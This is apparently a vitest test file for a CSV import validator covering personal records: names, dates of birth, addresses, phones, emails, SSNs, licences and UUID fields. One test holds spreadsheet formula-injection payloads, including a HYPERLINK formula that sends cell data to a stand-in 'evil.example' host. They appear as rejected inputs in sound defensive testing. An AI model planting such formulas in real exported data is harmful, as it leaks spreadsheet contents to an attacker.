import { describe, expect, test } from 'vitest';
import { asCsvRow, type CellMap } from '../../spec/arbitraries/rows.js';
import { US_STATE_CODES } from './addresses.js';
import { layoutHeader } from './header.js';
import type { ParsedRow, RowProblem } from './types.js';
import { formatReason, validateRow } from './validate-row.js';

const TODAY = '2025-06-30';

const BASE: CellMap = {
  firstName: 'Anne',
  lastName: 'Smith',
  dob: '1980-02-29',
  gender: 'F',
  'addressLine1-1': '1 Main St',
  'city-1': 'Springfield',
  'state-1': 'IL',
  'zip-1': '62704',
};

function validate(cells: CellMap, today = TODAY) {
  const row = asCsvRow(cells);
  return validateRow(row.cells, layoutHeader(row.header), today);
}

function parsed(cells: CellMap): ParsedRow {
  const result = validate(cells);
  if (!result.ok) throw new Error(`expected a valid row, got: ${formatReason(result.problems)}`);
  return result.row;
}

function problems(cells: CellMap): RowProblem[] {
  const result = validate(cells);
  if (result.ok) throw new Error('expected the row to fail');
  return result.problems;
}

function reason(cells: CellMap): string {
  return formatReason(problems(cells));
}

describe('a complete minimal row', () => {
  test('parses to its normalised form', () => {
    expect(parsed(BASE)).toEqual({
      firstName: 'Anne',
      lastName: 'Smith',
      firstNames: ['Anne'],
      lastNames: ['Smith'],
      dob: '1980-02-29',
      gender: 'F',
      addresses: [{ addressLine1: '1 Main St', city: 'Springfield', state: 'IL', zip: '62704', country: 'USA' }],
      phones: [],
      emails: [],
      cohortIds: [],
    });
  });

  test('cells are trimmed, and a whitespace-only cell is empty', () => {
    const row = parsed({ ...BASE, firstName: '  Anne \t', 'addressLine2-1': '   ', ssn: ' \t ', 'city-1': ' Springfield ' });
    expect(row.firstName).toBe('Anne');
    expect(row.addresses[0]!.addressLine2).toBeUndefined();
    expect(row.addresses[0]!.city).toBe('Springfield');
    expect(row.ssn).toBeUndefined();
  });

  test('a row with fewer cells than the header reads the missing cells as empty', () => {
    const layout = layoutHeader(['firstName', 'lastName', 'dob', 'gender', 'addressLine1', 'city', 'state', 'zip', 'phone', 'email']);
    const result = validateRow(['Anne', 'Smith', '1980-02-29', 'F', '1 Main St', 'Springfield', 'IL', '62704'], layout, TODAY);
    expect(result.ok && result.row.phones).toEqual([]);
    const short = validateRow(['Anne', 'Smith', '1980-02-29', 'F'], layout, TODAY);
    expect(short.ok ? [] : short.problems.map((p) => p.column)).toEqual(['addressLine1-1', 'city-1', 'state-1', 'zip-1']);
  });

  test('unknown columns are ignored, whatever they hold', () => {
    const layout = layoutHeader(['notes', 'firstName', 'lastName', 'dob', 'gender', 'addressLine1', 'city', 'state', 'zip', 'zip-0']);
    const result = validateRow(['x'.repeat(5000), 'Anne', 'Smith', '1980-02-29', 'F', '1 Main St', 'Springfield', 'IL', '62704', 'garbage'], layout, TODAY);
    expect(result.ok).toBe(true);
  });
});

describe('names', () => {
  test('"A,B", "A B" and "A, B" all give the list [A, B]; whitespace collapses', () => {
    expect(parsed({ ...BASE, firstName: 'Anne,Marie' }).firstNames).toEqual(['Anne', 'Marie']);
    expect(parsed({ ...BASE, firstName: 'Anne Marie' }).firstNames).toEqual(['Anne', 'Marie']);
    const row = parsed({ ...BASE, firstName: ' Anne ,  Marie ', lastName: 'de   la\tCruz' });
    expect(row.firstNames).toEqual(['Anne', 'Marie']);
    expect(row.firstName).toBe('Anne , Marie');
    expect(row.lastName).toBe('de la Cruz');
    expect(row.lastNames).toEqual(['de', 'la', 'Cruz']);
  });

  test('accents and non-Latin letters are names', () => {
    expect(parsed({ ...BASE, firstName: 'José', lastName: '李' }).lastNames).toEqual(['李']);
  });

  test('missing, or without any letter, is required', () => {
    expect(reason({ ...BASE, firstName: '' })).toBe('firstName: required (one or more names, separated by commas or spaces)');
    expect(reason({ ...BASE, lastName: ' , - ' })).toBe('lastName: required (one or more names, separated by commas or spaces)');
  });
});

describe('dob', () => {
  test('a real date from 1900 up to today', () => {
    expect(parsed({ ...BASE, dob: '1900-01-01' }).dob).toBe('1900-01-01');
    expect(parsed({ ...BASE, dob: TODAY }).dob).toBe(TODAY);
    expect(parsed({ ...BASE, dob: '2000-02-29' }).dob).toBe('2000-02-29');
  });

  test('each failure has its reason', () => {
    expect(reason({ ...BASE, dob: '' })).toBe('dob: required (a date as YYYY-MM-DD)');
    expect(reason({ ...BASE, dob: '02/29/1980' })).toBe('dob: must be a date as YYYY-MM-DD');
    expect(reason({ ...BASE, dob: '1980-2-29' })).toBe('dob: must be a date as YYYY-MM-DD');
    expect(reason({ ...BASE, dob: '1981-02-29' })).toBe('dob: must be a real calendar date as YYYY-MM-DD');
    expect(reason({ ...BASE, dob: '1900-02-29' })).toBe('dob: must be a real calendar date as YYYY-MM-DD');
    expect(reason({ ...BASE, dob: '1980-13-01' })).toBe('dob: must be a real calendar date as YYYY-MM-DD');
    expect(reason({ ...BASE, dob: '1899-12-31' })).toBe('dob: must be in 1900 or later');
    expect(reason({ ...BASE, dob: '2025-07-01' })).toBe('dob: must not be in the future');
  });
});

describe('gender', () => {
  test('M, F, O, U in any case, upper-cased', () => {
    expect(['m', 'F', 'o', 'U'].map((gender) => parsed({ ...BASE, gender }).gender)).toEqual(['M', 'F', 'O', 'U']);
  });

  test('missing or other values fail', () => {
    expect(reason({ ...BASE, gender: '' })).toBe('gender: required (M, F, O or U)');
    expect(reason({ ...BASE, gender: 'female' })).toBe('gender: must be M, F, O or U');
  });
});

describe('addresses', () => {
  test('groups become addresses in index order; empty indexes are ignored; country is USA', () => {
    const row = parsed({
      ...BASE,
      'addressLine1-3': '3 Oak Ave',
      'addressLine2-3': 'Apt 2',
      'city-3': 'Chicago',
      'state-3': 'il',
      'zip-3': '60601-1234',
      'city-2': '  ',
    });
    expect(row.addresses).toEqual([
      { addressLine1: '1 Main St', city: 'Springfield', state: 'IL', zip: '62704', country: 'USA' },
      { addressLine1: '3 Oak Ave', addressLine2: 'Apt 2', city: 'Chicago', state: 'IL', zip: '60601', country: 'USA' },
    ]);
  });

  test('any column of an index makes its required columns required, each named', () => {
    expect(reason({ ...BASE, 'addressLine2-2': 'Apt 2', 'zip-2': '1234' })).toBe(
      'addressLine1-2: required when any address-2 column is given; city-2: required when any address-2 column is given; ' +
        'state-2: required when any address-2 column is given; zip-2: must be 5 digits (ZIP+4 as 12345-6789 is accepted)',
    );
  });

  test('address 1 must be complete', () => {
    const { 'city-1': _city, ...withoutCity } = BASE;
    expect(reason(withoutCity)).toBe('city-1: required (address 1 must be complete)');
    const onlySecond = { ...BASE, 'addressLine1-1': '', 'city-1': '', 'state-1': '', 'zip-1': '', 'addressLine1-2': '1 Main St', 'city-2': 'X', 'state-2': 'NY', 'zip-2': '10001' };
    expect(problems(onlySecond).map((p) => p.column)).toEqual(['addressLine1-1', 'city-1', 'state-1', 'zip-1']);
  });

  test('state: a USPS code (states, DC, territories, military), any case', () => {
    for (const state of ['ny', 'DC', 'pr', 'GU', 'vi', 'AS', 'MP', 'AE', 'aa', 'AP']) expect(parsed({ ...BASE, 'state-1': state }).addresses[0]!.state).toBe(state.toUpperCase());
    expect(reason({ ...BASE, 'state-1': 'XX' })).toBe('state-1: must be a 2-letter US state code (e.g. NY)');
    expect(reason({ ...BASE, 'state-1': 'Illinois' })).toBe('state-1: must be a 2-letter US state code (e.g. NY)');
  });

  test('the state list is the 50 states, DC, 5 territories and 3 military codes', () => {
    const states =
      'AL AK AZ AR CA CO CT DE FL GA HI ID IL IN IA KS KY LA ME MD MA MI MN MS MO MT NE NV NH NJ NM NY NC ND OH OK OR PA RI SC SD TN TX UT VT VA WA WV WI WY'.split(' ');
    expect(states).toHaveLength(50);
    expect([...US_STATE_CODES].sort()).toEqual([...states, 'DC', 'AS', 'GU', 'MP', 'PR', 'VI', 'AA', 'AE', 'AP'].sort());
  });

  test('zip: 5 digits; ZIP+4 with or without the dash reduces to 5', () => {
    expect(parsed({ ...BASE, 'zip-1': '62704-1234' }).addresses[0]!.zip).toBe('62704');
    expect(parsed({ ...BASE, 'zip-1': '627041234' }).addresses[0]!.zip).toBe('62704');
    for (const zip of ['6270', '627045', '62704-12', 'ABCDE', '62 704']) expect(reason({ ...BASE, 'zip-1': zip })).toBe('zip-1: must be 5 digits (ZIP+4 as 12345-6789 is accepted)');
  });
});

describe('contacts', () => {
  test('phone: 10 digits after separators and a US country code are removed', () => {
    const cells = { ...BASE, 'phone-1': '(555) 123-4567', 'phone-2': '+1 555.123.4567', 'phone-4': '15551234567', 'phone-5': '555 123 4567' };
    expect(parsed(cells).phones).toEqual(['5551234567', '5551234567', '5551234567', '5551234567']);
    for (const phone of ['555123456', '25551234567', '+44 20 7946 0958', '555-123-456x'])
      expect(reason({ ...BASE, 'phone-3': phone })).toBe('phone-3: must be a 10-digit US phone number (spaces, dashes, dots and parentheses allowed)');
  });

  test('email: a valid address, domain lower-cased', () => {
    expect(parsed({ ...BASE, 'email-1': 'Anne.Smith+x@Example.COM', 'email-2': 'a@mail.co.uk' }).emails).toEqual(['Anne.Smith+x@example.com', 'a@mail.co.uk']);
    for (const email of ['anne', 'anne@', '@example.com', 'anne@example', 'an ne@example.com', 'anne@@example.com', 'anne@exa_mple.com'])
      expect(reason({ ...BASE, 'email-1': email })).toBe('email-1: must be an email address (e.g. name@example.com)');
  });
});

describe('identifiers', () => {
  test('ssn: 9 digits after dashes and spaces are removed', () => {
    expect(parsed({ ...BASE, ssn: '123-45-6789' }).ssn).toBe('123456789');
    expect(parsed({ ...BASE, ssn: '123 45 6789' }).ssn).toBe('123456789');
    expect(reason({ ...BASE, ssn: '12345678' })).toBe('ssn: must be 9 digits');
  });

  test("driver's licence: number and state go together, state a USPS code", () => {
    expect(parsed({ ...BASE, driversLicenceNo: 'D123', driversLicenceState: 'ca' }).driversLicence).toEqual({ value: 'D123', state: 'CA' });
    expect(reason({ ...BASE, driversLicenceNo: 'D123' })).toBe('driversLicenceState: required when driversLicenceNo is given');
    expect(reason({ ...BASE, driversLicenceState: 'CA' })).toBe('driversLicenceNo: required when driversLicenceState is given');
    expect(reason({ ...BASE, driversLicenceNo: 'D123', driversLicenceState: 'Cal' })).toBe('driversLicenceState: must be a 2-letter US state code (e.g. NY)');
  });

  test('cohort-N and facilityId: UUIDs of any version, lower-cased; cohorts without duplicates', () => {
    const row = parsed({
      ...BASE,
      'cohort-1': '123E4567-E89B-12D3-A456-426614174000',
      'cohort-2': '123e4567-e89b-12d3-a456-426614174000',
      'cohort-5': '01890A5D-AC96-774B-BCCE-B302099A8057',
      facilityId: 'F81D4FAE-7DEC-11D0-A765-00A0C91E6BF6',
    });
    expect(row.cohortIds).toEqual(['123e4567-e89b-12d3-a456-426614174000', '01890a5d-ac96-774b-bcce-b302099a8057']);
    expect(row.facilityId).toBe('f81d4fae-7dec-11d0-a765-00a0c91e6bf6');
    expect(reason({ ...BASE, 'cohort-2': 'cohort-a' })).toBe('cohort-2: must be a UUID (e.g. 123e4567-e89b-12d3-a456-426614174000)');
    expect(reason({ ...BASE, facilityId: '42' })).toBe('facilityId: must be a UUID (e.g. 123e4567-e89b-12d3-a456-426614174000)');
  });

  test('externalId: trimmed, at most 256 characters', () => {
    expect(parsed({ ...BASE, externalId: ' ext-1 ' }).externalId).toBe('ext-1');
    expect(parsed({ ...BASE, externalId: 'e'.repeat(256) }).externalId).toHaveLength(256);
    expect(reason({ ...BASE, externalId: 'e'.repeat(257) })).toBe('externalId: must be at most 256 characters');
  });
});

describe('hieOptOut', () => {
  test('true/false in any case; empty means no change', () => {
    expect(parsed({ ...BASE, hieOptOut: 'TRUE' }).hieOptOut).toBe(true);
    expect(parsed({ ...BASE, hieOptOut: 'False' }).hieOptOut).toBe(false);
    expect(parsed({ ...BASE, hieOptOut: ' ' }).hieOptOut).toBeUndefined();
    expect(reason({ ...BASE, hieOptOut: 'yes' })).toBe('hieOptOut: must be true or false (or left empty)');
  });
});

describe('problems', () => {
  test('a cell longer than its field allows is a problem of its own, not stored; each field has its own limit', () => {
    expect(reason({ ...BASE, 'city-1': 'x'.repeat(101) })).toBe('city-1: must be at most 100 characters');
    expect(reason({ ...BASE, lastName: 'Smith '.repeat(200) })).toBe('lastName: must be at most 200 characters');
    expect(reason({ ...BASE, firstName: 'A'.repeat(201) })).toBe('firstName: must be at most 200 characters');
    expect(parsed({ ...BASE, firstName: 'A'.repeat(200) }).firstName).toHaveLength(200);
    expect(reason({ ...BASE, 'addressLine2-1': 'x'.repeat(201) })).toBe('addressLine2-1: must be at most 200 characters');
    expect(reason({ ...BASE, driversLicenceNo: 'D'.repeat(51), driversLicenceState: 'NY' })).toBe('driversLicenceNo: must be at most 50 characters');
    // Formatted cells are bounded before their format is checked.
    expect(reason({ ...BASE, 'email-1': 'x'.repeat(1001) })).toBe('email-1: must be at most 1000 characters');
  });

  test('a control character (NUL, DEL, a line break or a tab inside the text) in a free-text cell is refused, naming the column', () => {
    const oneLine = 'must be one line of visible text: no line breaks, tabs or other control characters';
    expect(reason({ ...BASE, 'addressLine1-1': '1 Main\u0000 St' })).toBe(`addressLine1-1: ${oneLine}`);
    expect(reason({ ...BASE, 'addressLine2-1': 'Apt\n4' })).toBe(`addressLine2-1: ${oneLine}`);
    expect(reason({ ...BASE, 'city-1': 'Spring\u007ffield' })).toBe(`city-1: ${oneLine}`);
    expect(reason({ ...BASE, externalId: 'e\u00011' })).toBe(`externalId: ${oneLine}`);
    expect(reason({ ...BASE, driversLicenceNo: 'D1\t23', driversLicenceState: 'NY' })).toBe(`driversLicenceNo: ${oneLine}`);
    // Around the text, whitespace is trimmed as ever.
    expect(parsed({ ...BASE, 'city-1': '\tSpringfield\r\n' }).addresses[0]!.city).toBe('Springfield');
    // Formatted cells refuse them by their format.
    expect(reason({ ...BASE, dob: '1980-\u000001-02' })).toMatch(/^dob: must be a date/);
  });

  test('names: no formula start (=, +, -, @), no bidi control, no control character; whitespace between names is still a separator', () => {
    for (const name of ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '@SUM(1+1)*cmd', '+cmd', '-2+3+cmd', ' =Ann', '\t@Ann']) {
      expect(reason({ ...BASE, firstName: name })).toBe('firstName: must start with a letter, not =, +, - or @ (a spreadsheet would run the cell as a formula)');
    }
    for (const mark of ['\u202a', '\u202e', '\u2066', '\u2069', '\u200e', '\u200f', '\u061c']) {
      expect(reason({ ...BASE, lastName: `Smi${mark}th` })).toMatch(/^lastName: must not contain invisible text-direction marks/);
    }
    expect(reason({ ...BASE, lastName: 'Smi\u0000th' })).toMatch(/^lastName: must not contain control characters/);
    expect(reason({ ...BASE, lastName: 'Smi\u007fth' })).toMatch(/^lastName: must not contain control characters/);
    expect(parsed({ ...BASE, firstName: 'Anne\tMarie', lastName: "O'Brien-Smith" })).toMatchObject({ firstName: 'Anne Marie', lastName: "O'Brien-Smith" });
  });

  test('every problem of the row is listed, field by field, and no value is quoted', () => {
    const cells = { ...BASE, firstName: '', dob: '1980-02-30', 'zip-1': '9021', 'email-1': 'secret-mail', ssn: '999', hieOptOut: 'maybe' };
    const result = problems(cells);
    expect(result.map((p) => p.column)).toEqual(['firstName', 'dob', 'zip-1', 'email-1', 'ssn', 'hieOptOut']);
    const text = formatReason(result);
    for (const value of ['1980-02-30', '9021', 'secret-mail', 'maybe']) expect(text).not.toContain(value);
    expect(text.split('; ')).toHaveLength(6);
  });

  test('formatReason joins problems with "; " and keeps commas', () => {
    expect(formatReason([])).toBe('');
    expect(
      formatReason([
        { column: 'zip-2', message: 'must be 5 digits' },
        { column: 'city-2', message: 'required when any address-2 column is given' },
      ]),
    ).toBe('zip-2: must be 5 digits; city-2: required when any address-2 column is given');
    expect(formatReason([{ column: 'gender', message: 'must be M, F, O or U' }])).toBe('gender: must be M, F, O or U');
  });
});

describe('indexed columns beyond 10', () => {
  /** `BASE` plus the extra columns, under a header in this order. */
  function validateWith(extra: Record<string, string>) {
    const header = [...Object.keys(BASE), ...Object.keys(extra)];
    return validateRow([...Object.values(BASE), ...Object.values(extra)] as string[], layoutHeader(header), TODAY);
  }
  function reasonWith(extra: Record<string, string>): string {
    const result = validateWith(extra);
    if (result.ok) throw new Error('expected the row to fail');
    return formatReason(result.problems);
  }

  test('a value in an 11th address group, phone, email or cohort fails the row, naming the column and the limit', () => {
    expect(reasonWith({ 'addressLine1-11': '9 Far Rd', 'city-11': 'Springfield', 'state-11': 'IL', 'zip-11': '62702' })).toBe(
      'addressLine1-11: beyond the limit of 10 address groups per row (addressLine1-10 ... zip-10 is the last); ' +
        'this address would be dropped: put it in a free group or leave it out',
    );
    expect(reasonWith({ 'ZIP-12': '62702' })).toMatch(/^zip-12: beyond the limit of 10 address groups/);
    expect(reasonWith({ 'phone-11': '2175550100' })).toBe(
      'phone-11: beyond the limit of 10 phone columns per row (phone-10 is the last); this value would be dropped: move it to a free column or leave it out',
    );
    expect(reasonWith({ 'email-11': 'a@example.com', 'cohort-11': 'x' })).toMatch(/^email-11: .*email-10 is the last.*; cohort-11: .*cohort-10 is the last/);
  });

  test('empty cells beyond 10 change nothing', () => {
    const result = validateWith({ 'addressLine1-11': '', 'zip-11': '', 'phone-11': '' });
    expect(result.ok && result.row.addresses).toHaveLength(1);
  });
});
